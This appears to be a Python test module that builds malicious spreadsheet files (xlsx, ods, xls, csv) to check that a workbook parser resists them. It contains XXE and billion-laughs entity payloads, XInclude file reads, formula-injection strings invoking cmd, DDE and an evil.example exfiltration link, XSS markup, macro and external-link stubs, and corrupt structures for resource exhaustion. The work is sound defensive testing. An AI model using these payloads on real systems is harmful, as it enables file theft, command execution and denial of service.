"""Named attacks by what a workbook says: entities, sheets as large as the world, formulas, macros, links outwards."""

from collections.abc import Iterator

from openpyxl.utils import get_column_letter

from tests.attacks.archives import SHEET, elsewhere
from tests.attacks.corpus import (
    PLAN,
    REGISTER,
    changed,
    entry,
    in_compound,
    old_workbook,
    packed,
    parts_of,
    plan,
    record,
    workbook,
)
from tests.attacks.named import Attack
from tests.inventory.plan_reader.broken import repacked
from tests.inventory.plan_reader.writing import ods

SECRET = "HEMLIGT-4711"  # stands in a file of the machine that a sheet asks for; it must never come out again
FORMULAS = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")", "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1", "\uff0b1", "%0A=1+1", "'=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil.example\")", ";=1+1", "\"=1+1",
)  # fmt: skip
MARKUP = "<img src=x onerror=alert(1)>\"'&amp;{{ 7 }}</script><script>alert(1)</script>"
SPACE = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def sheet_attacks(secret: str, listener: int) -> Iterator[Attack]:
    """`secret` is the path of a file that holds SECRET; `listener` a port of this machine that must not be called."""
    good = plan()
    yield from entities(good, secret, listener)
    yield from huge_sheets(good)
    yield from formulas()
    yield from odd_cells(good)
    yield from outwards(good, secret, listener)
    yield from old_ones()


def entities(good: bytes, secret: str, listener: int) -> Iterator[Attack]:
    heads = {
        "a file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>',
        "an address": f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:{listener}/">]>',
        "a parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:{listener}/p"> %p; <!ENTITY e "x">]>',
        "a dtd": f'<!DOCTYPE x SYSTEM "http://127.0.0.1:{listener}/x.dtd" [<!ENTITY e "x">]>',
        "laughs": "<!DOCTYPE x [<!ENTITY a '" + "ha" * 50 + "'>" + "".join(
            f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
        ) + "<!ENTITY e '&i;'>]>",
        "a long laugh": f"<!DOCTYPE x [<!ENTITY e '{'ha' * 50_000}'>]>",
        "late": f'<!--{" " * 30_000}--><!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>',
    }  # fmt: skip
    for base, filename in ((good, "plan.xlsx"), (ods("Plan", PLAN), "plan.ods")):
        for part in parts_of(base):
            for name, head in heads.items():
                yield Attack(
                    f"entity: {name} in {part}", filename,
                    lambda base=base, part=part, head=head: changed(
                        base, lambda told, data: with_entity(data, head) if told == part else data),
                )  # fmt: skip
            yield Attack(
                f"entity: in UTF-16 in {part}", filename,
                lambda base=base, part=part: changed(base, lambda told, data: with_entity(
                    data, heads["a file"]).decode("utf-8", "replace").encode("utf-16") if told == part else data),
            )  # fmt: skip
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>'.encode()
    yield Attack(
        "entity: included", "plan.xlsx",
        lambda: changed(good, lambda _n, data: data.replace(b"<sheetData>", include + b"<sheetData>")),
    )  # fmt: skip


def with_entity(data: bytes, head: str) -> bytes:
    """The head after the declaration, and the entity in the first text."""
    start = data.find(b"?>") + 2 if data.startswith(b"<?xml") else 0
    rest = (
        data[start:].replace(b"<t>", b"<t>&e;", 3).replace(b"<v>", b"<v>&e;", 1).replace(b"<text:p>", b"<text:p>&e;", 3)
    )
    return data[:start] + head.encode() + rest


def cell(column: int, row: int, text: str) -> bytes:
    return f'<c r="{get_column_letter(column)}{row}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def head() -> bytes:
    cells = b"".join(
        cell(at, 1, text) for at, text in enumerate(["Benämning", "Slag", "Värde (mkr)", "Avtalsstart"], 1)
    )
    return b'<row r="1">' + cells + b"</row>"


def sheet(rows: bytes, after: bytes = b"", before: bytes = b"") -> bytes:
    return SPACE + before + b"<sheetData>" + head() + rows + b"</sheetData>" + after + b"</worksheet>"


def filled(rows: int, columns: int, inner: str, kind: str = "") -> bytes:
    letters = [get_column_letter(column) for column in range(1, columns + 1)]
    told = (
        f'<row r="{row}">' + "".join(f'<c r="{letter}{row}"{kind}>{inner}</c>' for letter in letters) + "</row>"
        for row in range(2, rows + 1)
    )
    return sheet("".join(told).encode())


def of_sheet(good: bytes, name: str, data: bytes | None = None, **more: bytes) -> Attack:
    """A whole workbook but for its first sheet, or for other parts."""
    return Attack(f"huge: {name}", "plan.xlsx", lambda: repacked(good, **({SHEET: data} if data else {}) | more))


def huge_sheets(good: bytes) -> Iterator[Attack]:
    size = b'<dimension ref="A1:XFD1048576"/>'
    row = b'<row r="2">' + cell(1, 2, "Lekplats") + b"</row>"
    end = cell(16384, 1048576, "x")
    yield of_sheet(good, "declared, and few there", sheet(row, before=size))
    yield of_sheet(good, "a cell at the end", sheet(row + b'<row r="1048576">' + end + b"</row>"))
    yield of_sheet(
        good, "cells without places in a late row", sheet(b'<row r="1048575">' + b"<c><v>1</v></c>" * 600 + b"</row>")
    )
    yield of_sheet(good, "a row number beyond numbers", sheet(b'<row r="' + b"9" * 300 + b'"><c><v>1</v></c></row>'))
    yield of_sheet(good, "a column beyond letters", sheet(b'<row r="2"><c r="' + b"Z" * 300 + b'2"><v>1</v></c></row>'))
    yield of_sheet(
        good,
        "rows that go backwards",
        sheet(b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(900, 1, -1))),
    )
    odd = b"<c\tr='XFD1048576'\nt='n'><v>1</v></c>"
    yield of_sheet(good, "a far cell written oddly", sheet(row + b"<row r='1048576'>" + odd + b"</row>"))
    sly = b'<c foo=">" r="XFD1048576"><v>1</v></c>'
    yield of_sheet(good, "a far cell behind a sign", sheet(row + b'<row r="1048576">' + sly + b"</row>"))
    for part in ("xl/blad/s.xml", "xl/blad/s.XML", "xl/blad/s.bin", "xl/blad/s.png"):
        far = sheet(row + b'<row r="1048576">' + end + b"</row>")
        yield Attack(f"huge: a far cell in {part}", "plan.xlsx", lambda part=part, far=far: elsewhere(good, part, far))
    yield of_sheet(good, "tags never closed", sheet(b'<row r="1048576">' + b"<c " * 300_000))
    yield of_sheet(good, "quotes never closed", sheet(b'<row r="1048576">' + b'<c r="' * 100_000 + b"<c r='" * 100_000))
    yield of_sheet(good, "a hundred thousand deep", sheet(b"<is>" * 100_000))
    yield from merged_sheets(good, row)
    yield from many_of_them(good)


def merged_sheets(good: bytes, row: bytes) -> Iterator[Attack]:
    areas = b"".join(b'<mergeCell ref="A%d:A19999"/>' % (n + 2) for n in range(60_000))
    yield of_sheet(
        good, "merged downwards", sheet(row + b'<row r="20000"><c r="A20000"><v>1</v></c></row>', merged(areas))
    )
    areas = b"".join(b'<mergeCell ref="A1:XFD%d"/>' % (n % 3 + 1) for n in range(60_000))
    yield of_sheet(good, "merged across", sheet(row, merged(areas)))
    yield of_sheet(
        good, "merged backwards", sheet(row, merged(b'<mergeCell ref="XFD1048576:A1"/><mergeCell ref="B2:A1"/>'))
    )
    yield of_sheet(good, "merged nowhere", sheet(row, merged(b'<mergeCell ref=""/><mergeCell/><mergeCell ref="1:A"/>')))


def many_of_them(good: bytes) -> Iterator[Attack]:
    long = b"<sst><si><t>" + b"y" * 3_500 + b"</t></si></sst>"
    yield Attack(
        "huge: one text in every cell", "plan.xlsx",
        lambda: repacked(good, **{SHEET: filled(20_000, 30, "<v>0</v>", ' t="s"'), "xl/sharedStrings.xml": long}),
    )  # fmt: skip
    yield Attack(
        "huge: every cell filled", "plan.xlsx", lambda: repacked(good, **{SHEET: filled(20_000, 120, "<v>1</v>")})
    )
    texts = b"<sst>" + b"".join(b"<si><t>%d</t></si>" % n for n in range(400_000)) + b"</sst>"
    yield of_sheet(good, "four hundred thousand texts", **{"xl/sharedStrings.xml": texts})
    yield of_sheet(good, "texts that are not there", filled(3, 4, "<v>99999999999</v>", ' t="s"'))
    yield of_sheet(good, "texts before the first", filled(3, 4, "<v>-1</v>", ' t="s"'))
    styles = b"<styleSheet><cellXfs>" + b'<xf numFmtId="14"/>' * 300_000 + b"</cellXfs></styleSheet>"
    yield of_sheet(good, "styles without number", **{"xl/styles.xml": styles})
    sheets = b"".join(b'<sheet name="B%d" sheetId="%d" r:id="rId1"/>' % (n, n + 9) for n in range(3_000))
    yield Attack(
        "huge: three thousand sheets", "plan.xlsx",
        lambda: changed(good, lambda _name, data: data.replace(b"</sheets>", sheets + b"</sheets>")),
    )  # fmt: skip
    yield Attack(
        "huge: one text of 30 MB",
        "plan.xlsx",
        lambda: repacked(good, **{SHEET: sheet(b'<row r="2">' + cell(1, 2, "å" * 15_000_000) + b"</row>")}),
    )
    for times, what in (
        (1_000_000, "columns"),
        (10**12, "columns"),
        (1_000_000, "rows"),
        (10**12, "rows"),
        (-1, "rows"),
    ):
        yield Attack(f"huge: ods repeats {what} {times} times", "plan.ods", lambda t=times, w=what: repeated(t, w))


def merged(areas: bytes) -> bytes:
    return b"<mergeCells>" + areas + b"</mergeCells>"


def repeated(times: int, what: str) -> bytes:
    said = f' table:number-{what}-repeated="{times}"'
    on_row, on_cell = (said, "") if what == "rows" else ("", said)
    cells = f'<table:table-cell{on_cell} office:value-type="string"><text:p>x</text:p></table:table-cell>' * 40
    row = f"<table:table-row{on_row}>{cells}</table:table-row >"
    whole = parts_of(ods("Plan", PLAN))
    content = whole["content.xml"].replace(b"</table:table-row>", b"</table:table-row>" + row.encode(), 1)
    return packed(whole | {"content.xml": content})


def formulas() -> Iterator[Attack]:
    """They are text to us wherever they stand: in a cell, in a heading, as a sheet's name, as the file's name."""
    for number, text in enumerate(FORMULAS):
        for base, filename in ((PLAN, "plan.xlsx"), (REGISTER, "avtal.xlsx")):
            rows = [base[0], *([text if cell == row[1] else cell for cell in row] for row in base[1:])]
            named = [base[0], [text, *base[1][1:]], *base[2:]]
            yield Attack(f"formula: {number} in cells of {filename}", filename, lambda rows=rows: as_text(rows))
            yield Attack(f"formula: {number} in names of {filename}", filename, lambda rows=named: as_text(rows))
            heads = [[*base[0], text], *([*row, "x"] for row in base[1:])]
            yield Attack(f"formula: {number} as heading of {filename}", filename, lambda rows=heads: as_text(rows))
        yield Attack(f"formula: {number} as name of the sheet", "plan.ods", lambda text=text: ods(as_xml(text), PLAN))
        yield Attack(f"formula: {number} as name of the file", f"{text}.xlsx", lambda: plan())
        yield Attack(f"formula: {number} in text", "plan.csv", lambda text=text: in_text(text))
    yield Attack(
        "formula: as a formula", "plan.xlsx", lambda: workbook([PLAN[0], ["=1+1", "Tjänst", "=A1", "2027-10-01"]])
    )
    for text in (MARKUP, "\u202eslx.nalp", "a\u0000b", "\ud800", "_x0000_", "_x0041_"):
        for rows in ([[*PLAN[0], text], *PLAN[1:]], [PLAN[0], [text, *PLAN[1][1:]]]):
            yield Attack(f"formula: {text[:9]!r} as text", "plan.xlsx", lambda rows=rows: as_text(rows))
            yield Attack(f"formula: {text[:9]!r} in an old workbook", "plan.xls", lambda rows=rows: old_ones_of(rows))


def as_text(rows: list[list[object]]) -> bytes:
    """A workbook whose cells are texts, whatever they begin with."""
    written = b"".join(
        b'<row r="%d">' % at + b"".join(cell(n, at, as_xml(str(value))) for n, value in enumerate(row, 1)) + b"</row>"
        for at, row in enumerate(rows, 1)
    )
    return repacked(plan(), **{SHEET: SPACE + b"<sheetData>" + written + b"</sheetData></worksheet>"})


def as_xml(text: str) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").replace("\r", "&#13;")
    return text.encode("utf-8", "replace").decode().replace("\0", "&#0;")


def in_text(text: str) -> bytes:
    quoted = text.replace('"', '""')
    return f'Benämning;Slag;Värde (mkr);Avtalsstart\r\n"{quoted}";Tjänst;12;2027-10-01\r\n'.encode("utf-8", "replace")


def odd_cells(good: bytes) -> Iterator[Attack]:
    values = (
        "1e308", "-1e308", "1e999999", "NaN", "inf", "-inf", "1" * 400, "1" * 5_000, "0x10", "", " ", "-0", "2958466",
        "-1", "1e18", "43831.99999999", "\u0661\u0662", "²", "\u2460",
    )  # fmt: skip
    for value in values:
        for kind in (
            "",
            ' t="n"',
            ' t="b"',
            ' t="e"',
            ' t="str"',
            ' t="d"',
            ' t="s"',
            ' s="1"',
            ' t="?"',
            ' s="99999"',
        ):
            rows = "".join(
                f'<row r="{row}"><c r="A{row}" t="str"><v>Lekplats</v></c><c r="B{row}" t="str"><v>Tjänst</v></c>'
                f'<c r="C{row}"{kind}><v>{value}</v></c><c r="D{row}"{kind}><v>{value}</v></c></row>'
                for row in (2, 3)
            )
            yield Attack(
                f"cell: {value[:12]}{kind}", "plan.xlsx",
                lambda rows=rows: repacked(good, **{SHEET: sheet(rows.encode())}),
            )  # fmt: skip


def outwards(good: bytes, secret: str, listener: int) -> Iterator[Attack]:
    here = f"http://127.0.0.1:{listener}"
    parts = {
        "macros": {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Attribute VB_Name Auto_Open Shell calc" + bytes(900)},
        "macro sheet": {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet><f>EXEC(calc)</f></xm:macrosheet>"},
        "an object": {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(900),
        "xl/activeX/activeX1.xml": b"<x/>"},
        "a link": {"xl/externalLinks/externalLink1.xml": (
            b'<externalLink><externalBook r:id="rId1"/><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'),
            "xl/externalLinks/_rels/externalLink1.xml.rels": (
            f'<Relationships><Relationship Target="file://{secret}" TargetMode="External"/></Relationships>'.encode())},
        "a connection": {"xl/connections.xml": (
            f'<connections><connection odcFile="{here}" refreshOnLoad="1"/></connections>'.encode())},
        "a picture from afar": {"xl/drawings/_rels/drawing1.xml.rels": (
            f'<Relationships><Relationship Target="{here}/p.png" TargetMode="External"/></Relationships>'.encode())},
        "buttons of its own": {"customUI/customUI.xml": b'<customUI onLoad="Auto_Open"/>'},
    }  # fmt: skip
    for name, more in parts.items():
        for filename in ("plan.xlsx", "plan.xlsm", "plan.xltm"):
            yield Attack(f"outwards: {name} in {filename}", filename, lambda more=more: repacked(good, **more))
    link = f'<hyperlinks><hyperlink ref="A2" r:id="rId1" display="javascript:alert(1)" location="{here}"/></hyperlinks>'
    yield Attack(
        "outwards: hyperlinks", "plan.xlsx",
        lambda: changed(good, lambda _n, data: data.replace(b"</sheetData>", b"</sheetData>" + link.encode())),
    )  # fmt: skip
    for target in (f"file://{secret}", here, secret):
        yield Attack(
            f"outwards: the sheet lies at {target.partition(':')[0]}", "plan.xlsx",
            lambda target=target: changed(good, lambda name, data: data.replace(
                b"worksheets/sheet1.xml", target.encode()) if name.endswith(".rels") else data),
        )  # fmt: skip


def old_ones_of(rows: list[list[object]]) -> bytes:
    return old_workbook(
        [[str(value).encode("utf-16-le", "replace").decode("utf-16-le") for value in row] for row in rows]
    )


def old_ones() -> Iterator[Attack]:
    """Old workbooks are a file system of their own: sectors in chains, and records in a stream."""
    good = old_workbook(PLAN)
    yield Attack("xls: a chain in a ring", "plan.xls", lambda: good[:512] + b"\x02\0\0\0" * 128 + good[1024:])
    yield Attack(
        "xls: a chain out of the file", "plan.xls", lambda: good[:512] + b"\xf0\xff\xff\x7f" * 128 + good[1024:]
    )
    yield Attack("xls: all sectors the same", "plan.xls", lambda: good[:512] + bytes(512) + good[1024:])
    ring = entry("Root Entry", 5, 0xFFFFFFFE, 0, child=0) + entry("Workbook", 2, 2, 2**60)
    yield Attack("xls: a directory in a ring", "plan.xls", lambda: good[:1024] + ring.ljust(512, b"\0") + good[1536:])
    for at in range(24, 80, 4):
        for value in (b"\0\0\0\0", b"\xff\xff\xff\xff", b"\xff\xff\xff\x7f", b"\x01\0\0\0"):
            yield Attack(
                f"xls: {value.hex()} at {at} of the head", "plan.xls",
                lambda at=at, value=value: good[:at] + value + good[at + 4 :],
            )  # fmt: skip
    odd = {
        "texts without number": record(0x00FC, b"\xff\xff\xff\xff\xff\xff\xff\x7f" + bytes(9)),
        "a text longer than it is": record(0x0204, b"\0" * 6 + b"\xff\xff\x01"),
        "a number cut short": record(0x0203, b"\0" * 7),
        "many numbers, none there": record(0x00BD, b"\1\0\0\0\xff\xff"),
        "a far cell": record(0x0203, b"\xff\xff\xff\xff\0\0" + bytes(8)),
        "a size beyond sizes": record(0x0200, b"\0\0\0\0\xff\xff\xff\xff\0\0\xff\xff\0\0"),
        "a formula": record(0x0006, b"\3\0\0\0\0\0" + b"\xff" * 6 + b"\xff\xff" + bytes(8)),
        "merged cells": record(0x00E5, b"\xff\x03" + b"\0\0\xff\xff\0\0\xff\0" * 1023),
        "a sheet elsewhere": record(0x0085, b"\xff\xff\xff\x7f\0\0\4\0Blad"),
        "begun and begun": record(0x0809, b"\0\6\x10\0" + bytes(12)) * 900,
        "a code page that is none": record(0x0042, b"\xff\xff"),
    }
    for name, more in odd.items():
        yield Attack(f"xls: {name}", "plan.xls", lambda more=more: old_workbook(PLAN, more))
    yield Attack("xls: records of no length", "plan.xls", lambda: in_compound(bytes(40_000)))
